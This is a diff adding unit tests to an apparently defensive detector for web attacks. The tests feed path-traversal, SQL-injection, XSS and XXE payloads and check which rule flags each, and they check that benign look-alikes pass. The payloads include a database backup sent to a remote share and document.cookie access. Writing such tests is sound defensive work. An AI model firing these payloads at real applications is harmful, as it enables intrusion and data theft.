@@ -32,6 +32,32 @@ describe("traversal: separators spelled as hex, escaped dots, drive-relative pat
   });
 });
 
+describe("traversal: padded roots, spelled-out dot-dot, dots before a placeholder, stripped separators", () => {
+  it("finds them", () => {
+    expect(rule(q("/./etc/passwd"))).toBe("traversal.sensitive-file");
+    expect(rule(q("/.//././/./{FILE}"))).toBe("traversal.padded-root");
+    expect(rule(q("////{FILE}"))).toBe("traversal.padded-root");
+    expect(rule(q("\\\\.\\pipe\\x"))).toBe("traversal.padded-root");
+    expect(rule(q("/./"))).toBe("traversal.padded-root");
+    expect(rule(q("/0x2e0x2ex2e0x2e{FILE}"))).toBe("traversal.dot-dot");
+    expect(rule(q("/aaaaaaaaaaaaaaaa......{FILE}"))).toBe("traversal.dot-dot");
+    expect(rule(q("........etcpasswd"))).toBe("traversal.sensitive-file");
+    expect(rule(q("....web-infweb.xml"))).toBe("traversal.sensitive-file");
+    expect(rule(q("c:inetpubwwwrootglobal.asa"))).toBe("traversal.sensitive-file");
+    expect(category(rawQuery("q=x&f=%2F.%2F%2F.%2Fx"))).toBe("traversal");
+  });
+  it("leaves network paths, comment banners, JS spread and ordinary dots alone", () => {
+    expect(category(q("//cdn.example.com/lib.js"))).toBe("none");
+    expect(category(q("\\\\server\\share"))).toBe("none");
+    expect(category(q("/// <reference path=\"a.d.ts\" />"))).toBe("none");
+    expect(category(q("//////////"))).toBe("none");
+    expect(category(q("[...{ a: 1 }]"))).toBe("none");
+    expect(category(q("{a}..{b}"))).toBe("none");
+    expect(category(q("0x2e 0x2e"))).toBe("none");
+    expect(category(q("the etc. passwd field"))).toBe("none");
+  });
+});
+
 describe("SQL: literal-operator-literal, comment-ended expressions, UNION at the end", () => {
   it("finds them", () => {
     expect(rule(q("A' / 'B"))).toBe("sqli.breakout-operator");
@@ -76,6 +102,30 @@ describe("SQL: statements and expressions opening the value", () => {
   });
 });
 
+describe("SQL: versioned comments, VALUES tuples, match-all LIKE, server variables, adjacent literals, BACKUP", () => {
+  it("finds them", () => {
+    expect(rule(q("1/*!1111'*/"))).toBe("sqli.versioned-comment");
+    expect(rule(q("',NULL) waitfor delay '0:0:20' /*"))).toBe("sqli.breakout-values");
+    expect(rule(q("1'), NULL, @@version)#"))).toBe("sqli.breakout-values");
+    expect(rule(q(" like '%'"))).toBe("sqli.tautology");
+    expect(rule(q("@@version"))).toBe("sqli.server-variable");
+    expect(rule(q("1 and @@datadir"))).toBe("sqli.server-variable");
+    expect(rule(q("' '"))).toBe("sqli.breakout-operator");
+    expect(rule(q("\" \""))).toBe("sqli.breakout-operator");
+    expect(rule(q("backup database master to disk='\\\\10.0.0.1\\s\\db.dat'"))).toBe("sqli.stacked");
+  });
+  it("leaves licence comments, measures, prose LIKE, mentions, separators and backup advice alone", () => {
+    expect(category(q("/*! normalize.css v8 */"))).toBe("none");
+    expect(category(q("5', 2)"))).toBe("none");
+    expect(category(q("Size (6', 2\")"))).toBe("none");
+    expect(category(q("a sign like '%' here"))).toBe("none");
+    expect(category(q("@john thanks"))).toBe("none");
+    expect(category(q("mail me @ home"))).toBe("none");
+    expect(category(q("use ' ' as separator"))).toBe("none");
+    expect(category(q("how to backup database to disk"))).toBe("none");
+  });
+});
+
 describe("normalisation: typographic quotes", () => {
   it("reads smart quotes and primes as quotes", () => {
     expect(category(q("’ or ‘1’=’1"))).toBe("sqli");
@@ -98,5 +148,39 @@ describe("XSS: computed calls on globals, unquoted attribute ends, UTF-7", () =>
     expect(category(q("window[0] (left)"))).toBe("none");
     expect(category(q("a+adw-b"))).toBe("none");
     expect(category(q("<b>bold</b> text"))).toBe("none");
+  });
+});
+
+describe("XSS: handlers smuggled after '<', optional chaining, glued document.cookie, window.open, xml: prefix, ATTLIST", () => {
+  it("finds them", () => {
+    expect(rule(q("<x </onxxx=1"))).toBe("xss.event-handler");
+    expect(rule(q("alert?.(document?.cookie)"))).toBe("xss.js-call");
+    expect(rule(q("scriptdocument.cookie=true;/script"))).toBe("xss.dom-sink");
+    expect(rule(q("window.open('popup.html','spam')"))).toBe("xss.dom-sink");
+    expect(rule(q("<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">"))).toBe("xss.tag");
+    expect(rule(q("<!ATTLIST img xmlns CDATA \"http://www.w3.org/1999/xhtml\" src CDATA \"xx:x\">"))).toBe("xxe.attlist");
+  });
+  it("leaves online words, comparisons, optional calls of other names and window prose alone", () => {
+    expect(category(q("<x </online"))).toBe("none");
+    expect(category(q("a < b </ c"))).toBe("none");
+    expect(category(q("user?.(name)"))).toBe("none");
+    expect(category(q("my documents.cookie jar"))).toBe("none");
+    expect(category(q("window opens at 9"))).toBe("none");
+    expect(category(q("<soap:note>"))).toBe("none");
+  });
+});
+
+describe("XSS: a lone '<' spelled in an encoding no transport applies", () => {
+  it("finds entity, numeric, JS-escape and double-URL spellings", () => {
+    expect(rule(q("&lt;"))).toBe("xss.encoded-probe");
+    expect(rule(q("&#x0003C;"))).toBe("xss.encoded-probe");
+    expect(rule(q("\\u003c"))).toBe("xss.encoded-probe");
+    expect(rule(rawQuery("q=%253C"))).toBe("xss.encoded-probe");
+  });
+  it("leaves a bare or URL-escaped '<' and text around an entity alone", () => {
+    expect(category(q("<"))).toBe("none");
+    expect(category(rawQuery("op=%3C+"))).toBe("none");
+    expect(category(q(" < "))).toBe("none");
+    expect(category(q("a &lt; b"))).toBe("none");
   });
 });
